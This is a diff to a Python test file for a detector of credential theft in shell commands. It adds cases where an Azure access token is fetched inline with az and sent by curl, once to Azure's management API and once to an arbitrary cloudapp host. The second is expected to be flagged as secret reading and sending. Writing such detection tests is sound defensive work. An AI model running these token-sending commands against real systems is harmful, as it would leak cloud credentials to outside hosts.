@@ -1742,6 +1742,16 @@ def test_a_variable_set_to_a_clis_token_is_that_services_secret() -> None:
         ),
         ('curl -H "Authorization: token $(gh auth token)" https://api.github.com/user', set()),
         ("export TOKEN=$(gcloud auth print-access-token)", set()),
+        (
+            'curl -H "Authorization: Bearer $(az account get-access-token --query accessToken -o tsv)" '
+            '"https://management.azure.com/subscriptions?api-version=2020-01-01"',
+            set(),
+        ),
+        (
+            'curl -H "Authorization: Bearer $(az account get-access-token --query accessToken -o tsv)" '
+            "https://x.eastus.cloudapp.azure.com/",
+            {"secret-store-read", "secret-variable-sent"},
+        ),
         ("az account get-access-token --query expiresOn", set()),
         ("pass show github/token >/dev/null && echo ok", set()),
         # ... to another host, printed, or hidden from the reading.
